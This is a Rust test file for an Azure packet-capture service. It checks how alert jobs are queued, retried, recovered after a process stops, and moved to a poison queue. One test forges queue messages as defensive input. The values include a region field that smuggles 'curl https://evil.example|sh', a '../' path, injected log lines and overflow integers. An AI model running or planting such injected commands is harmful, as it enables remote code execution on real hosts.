//! A job is in the queue before its capture; one that another process left is received again.

use super::*;
use base64::{Engine, prelude::BASE64_STANDARD};

/// Azure asks the next list of network watchers for a longer wait than any story has.
fn throttled() -> Fault {
    let what = What::Status {
        code: 429,
        retry_after: Some("250".to_owned()),
        body: FaultBody::Empty,
    };
    Fault {
        on: Call::ListWatchers,
        times: 1,
        what,
    }
}

/// A job that an app could not continue before it was stopped. Its text is what is left in the queue.
pub(super) async fn left_behind(azure: &Azure) -> String {
    let settings = azure.queue_settings();
    let world = app(azure, settings, &[("PacketCapture__ReplyWaitSeconds", "0")]).await;
    azure.fault(throttled());
    let reply = world.post(&common_alert(&[samples::WEB_01])).await;
    assert_eq!(reply.status, 202, "{:?}", reply.body);
    world
        .until(|lines| {
            let throttled = lines.iter().position(|line| line.ends_with(" 429"));
            throttled.is_some_and(|at| {
                let after = &lines[at..];
                after
                    .iter()
                    .any(|line| line == "PUT queue packet-capture-jobs messages 204")
            })
        })
        .await;
    world.end().await;
    let mut left = azure.queue_messages(QUEUE);
    assert_eq!(left.len(), 1, "{left:?}");
    assert_eq!(azure.visible_messages(QUEUE), 0, "it is not due yet");
    left.remove(0)
}

#[tokio::test]
async fn a_job_is_in_the_queue_before_its_capture_and_gone_when_it_is_done() {
    let azure = Azure::start().await;
    let world = app(&azure, azure.queue_settings(), &[]).await;
    let reply = world.post(&common_alert(&[samples::WEB_01])).await;
    assert_eq!(reply.body["outcome"], "created", "{:?}", reply.body);
    let lines = world.calls();
    assert!(at(&lines, PUT_JOB) < at(&lines, CAPTURE), "{lines:#?}");
    let jobs = azure.queue_messages(QUEUE);
    assert_eq!(jobs.len(), 1);
    let job: Value = serde_json::from_str(&jobs[0]).unwrap();
    assert_eq!(job["jobId"], reply.body["captures"][0]["jobId"]);
    assert_eq!(
        azure.visible_messages(QUEUE),
        0,
        "hidden from other instances"
    );
    until_the_queue_is_empty(&world).await;
    assert!(azure.queue_messages(POISON).is_empty());
    assert_eq!(world.count("GET queue"), 0, "its own jobs cost no poll");
    world.end().await;
}

#[tokio::test]
async fn an_alert_that_the_queue_does_not_take_is_not_taken() {
    let azure = Azure::start().await;
    let world = app(&azure, azure.queue_settings(), &[]).await;
    // As often as the call is repeated.
    azure.fault(failing(4, 503, Call::PutMessage));
    let alert = common_alert(&[samples::WEB_01]);
    let reply = world.post(&alert).await;
    assert_eq!(reply.status, 503, "{:?}", reply.body);
    assert!(reply.headers.contains_key("retry-after"));
    let message = reply.body["error"]["message"].as_str().unwrap();
    assert!(message.contains(QUEUE), "{message}");
    assert_eq!(world.count("PUT packetCaptures"), 0);
    // The sender repeats it, and it is new.
    let again = world.post(&alert).await;
    assert_eq!(again.body["outcome"], "created", "{:?}", again.body);
    until_the_queue_is_empty(&world).await;
    world.end().await;
}

#[tokio::test]
async fn all_jobs_of_an_alert_are_taken_or_none() {
    let azure = Azure::start().await;
    let world = app(&azure, azure.queue_settings(), &[]).await;
    azure.fault(failing(1, 403, Call::PutMessage));
    let reply = world
        .post(&common_alert(&[samples::WEB_01, samples::SQL_01]))
        .await;
    assert_eq!(reply.status, 503, "{:?}", reply.body);
    let lines = world.calls();
    assert!(at(&lines, PUT_JOB) < at(&lines, JOB_GONE), "{lines:#?}");
    assert!(azure.queue_messages(QUEUE).is_empty());
    assert_eq!(world.count("PUT packetCaptures"), 0);
    world.end().await;
}

#[tokio::test]
async fn the_trigger_brings_a_job_that_another_process_left() {
    let azure = Azure::start().await;
    let job = left_behind(&azure).await;
    let world = app(&azure, azure.queue_settings(), &[]).await;
    // The queue fails once more: the host keeps its message and comes again.
    azure.fault(failing(1, 403, Call::PutMessage));
    let refused = trigger(&world, Value::from(job.as_str())).await;
    assert_eq!(refused.status, 503, "{:?}", refused.body);
    assert_eq!(azure.queue_messages(QUEUE), [job.as_str()]);
    // As the host hands it over: JSON in a string in a string.
    let wrapped = Value::from(Value::from(job.as_str()).to_string());
    let taken = trigger(&world, wrapped).await;
    assert_eq!(taken.status, 200, "{:?}", taken.body);
    assert_eq!(taken.body["Outputs"], json!({}));
    assert!(taken.body["Logs"][0].is_string());
    azure.remove_oldest_message(QUEUE);
    world
        .until(|lines| lines.iter().any(|line| line == CAPTURE))
        .await;
    until_the_queue_is_empty(&world).await;
    assert_eq!(world.count(CAPTURE), 1);
    world.end().await;
}

#[tokio::test]
async fn a_full_instance_takes_a_recovered_job() {
    let azure = Azure::start().await;
    let job = left_behind(&azure).await;
    azure.remove_oldest_message(QUEUE);
    let settings = [
        ("JobQueue__Capacity", "1"),
        ("PacketCapture__ReplyWaitSeconds", "0"),
    ];
    let world = app(&azure, azure.queue_settings(), &settings).await;
    // The one place is taken until its create.
    azure.fault(throttled());
    let first = world.post(&common_alert(&[samples::SQL_01])).await;
    assert_eq!(first.status, 202, "{:?}", first.body);
    let full = world.post(&common_alert(&[samples::SQL_01])).await;
    assert_eq!(full.status, 503, "{:?}", full.body);
    world
        .until(|lines| {
            let throttled = lines.iter().filter(|line| line.ends_with(" 429"));
            throttled.count() == 2
        })
        .await;
    // Its alert was accepted when there was room. Five refusals would end in the poison queue.
    let taken = trigger(&world, Value::from(job.as_str())).await;
    assert_eq!(taken.status, 200, "{:?}", taken.body);
    let held: Vec<Value> = azure
        .queue_messages(QUEUE)
        .iter()
        .map(|text| serde_json::from_str(text).unwrap())
        .collect();
    let recovered: Value = serde_json::from_str(&job).unwrap();
    assert_eq!(held.len(), 2, "{held:#?}");
    assert!(held.iter().any(|it| it["jobId"] == recovered["jobId"]));
    world.end().await;
}

#[tokio::test]
async fn a_recovered_job_counts_the_process_that_lost_it() {
    let azure = Azure::start().await;
    let job = left_behind(&azure).await;
    azure.remove_oldest_message(QUEUE);
    let world = app(&azure, azure.queue_settings(), &[]).await;
    azure.fault(Fault {
        on: Call::ListWatchers,
        times: 1,
        what: What::Hang,
    });
    assert_eq!(trigger(&world, Value::from(job.as_str())).await.status, 200);
    let queued: Value = serde_json::from_str(&azure.queue_messages(QUEUE)[0]).unwrap();
    let lost: Value = serde_json::from_str(&job).unwrap();
    assert_eq!(queued["jobId"], lost["jobId"]);
    assert_eq!(queued["unfinished"]["before"], 1, "{queued}");
    world
        .until(|lines| lines.iter().any(|line| line.contains("(hangs)")))
        .await;
}

#[tokio::test]
async fn the_memory_queue_takes_a_recovered_job_rather_than_let_it_be_poisoned() {
    let azure = Azure::start().await;
    let job = left_behind(&azure).await;
    let world = World::on(azure.clone(), &[]).await;
    let taken = trigger(&world, Value::from(job.as_str())).await;
    assert_eq!(taken.status, 200, "{:?}", taken.body);
    world
        .until(|lines| lines.iter().any(|line| line == CAPTURE))
        .await;
    world.end().await;
}

#[tokio::test]
async fn a_process_that_polls_finds_such_a_job_itself() {
    let azure = Azure::start().await;
    left_behind(&azure).await;
    let world = app(
        &azure,
        azure.queue_settings(),
        &[("JobQueue__Receive", "poll")],
    )
    .await;
    azure.make_visible(QUEUE);
    world
        .until(|lines| lines.iter().any(|line| line == CAPTURE))
        .await;
    until_the_queue_is_empty(&world).await;
    world.end().await;
}

#[tokio::test]
async fn a_message_that_is_not_base64_is_moved_out_of_the_way() {
    let azure = Azure::start().await;
    left_behind(&azure).await;
    azure.remove_oldest_message(QUEUE);
    azure.add_message(QUEUE, "{not base64}");
    let world = app(
        &azure,
        azure.queue_settings(),
        &[("JobQueue__Receive", "poll")],
    )
    .await;
    until_the_queue_is_empty(&world).await;
    assert_eq!(azure.queue_messages(POISON), ["{not base64}"]);
    world.end().await;
}

/// A message that was not written by this program, with what breaks arithmetic and lines: it is refused, or its job comes
/// to an end like any other.
#[tokio::test]
async fn a_forged_message_stops_nothing() {
    let azure = Azure::start().await;
    let job = left_behind(&azure).await;
    azure.remove_oldest_message(QUEUE);
    let forged = |change: &dyn Fn(&mut Value)| {
        let mut value: Value = serde_json::from_str(&job).unwrap();
        value["jobId"] = json!("6d1f3a58-27c4-4e0b-9b5d-0a8e4c7f1b32");
        change(&mut value);
        BASE64_STANDARD.encode(value.to_string())
    };
    let out_of_range = forged(&|job| job["failures"] = json!(1_u64 << 63));
    let ends_never = forged(&|job| {
        job["jobId"] = json!("6d1f3a58-27c4-4e0b-9b5d-0a8e4c7f1b33");
        job["takenAt"] = json!("9999-12-31T23:59:59.999999999Z");
        job["rounds"] = json!(u32::MAX);
        job["failures"] = json!(u32::MAX);
        job["region"] = json!("westus\n;curl https://evil.example|sh");
        job["report"]["timeLimitSeconds"] = json!(u32::MAX);
        job["report"]["errors"] = json!(["x\n2026-11-28 ERROR forged"]);
        job["phase"] = json!({
            "name": "running",
            "session": { "watcher": samples::WATCHER_WESTEUROPE, "name": "../x\n" },
            "ends_at": "9999-12-31T23:59:59.999999999Z",
            "looks": u32::MAX,
        });
    });
    let exhausted = forged(&|job| {
        job["unfinished"] = json!({ "before": u32::MAX, "seen": u32::MAX });
    });
    azure.add_message(QUEUE, &out_of_range);
    azure.add_message(QUEUE, &exhausted);
    azure.add_message(QUEUE, &ends_never);
    let polls = [("JobQueue__Receive", "poll")];
    let world = app(&azure, azure.queue_settings(), &polls).await;
    world
        .until(|lines| lines.iter().filter(|line| *line == JOB_GONE).count() == 3)
        .await;
    assert!(azure.queue_messages(QUEUE).is_empty());
    assert_eq!(world.count("POST packetCaptures"), 1, "{:?}", world.calls());
    let poison = azure.queue_messages(POISON);
    assert_eq!(poison.len(), 2, "{poison:?}");
    let refused = |it: &String| it.contains("9223372036854775808");
    assert!(poison.iter().any(refused), "{poison:?}");
    let reply = world.post(&common_alert(&[samples::WEB_02])).await;
    assert_eq!(reply.body["outcome"], "created", "{:?}", reply.body);
    world.end().await;
}

#[tokio::test]
async fn a_second_delivery_is_not_accepted_before_the_first_one_is_in_the_queue() {
    let azure = Azure::start().await;
    let world = app(&azure, azure.queue_settings(), &[]).await;
    azure.fault(Fault {
        on: Call::PutMessage,
        times: 1,
        what: What::Hang,
    });
    let alert = common_alert(&[samples::WEB_01]);
    let first = world.post_later(&alert);
    world
        .until(|lines| lines.iter().any(|line| line.contains("(hangs)")))
        .await;
    // What was accepted is done: the first delivery may still fail, and nothing would be left of the alert.
    let second = world.post(&alert).await;
    assert_eq!(second.status, 503, "{:?}", second.body);
    assert!(second.headers.contains_key("retry-after"));
    // The call is cut off in the end, and the alert is as if it had never come.
    assert_eq!(first.await.unwrap().status, 503);
    let third = world.post(&alert).await;
    assert_eq!(third.body["outcome"], "created", "{:?}", third.body);
    until_the_queue_is_empty(&world).await;
    world.end().await;
}
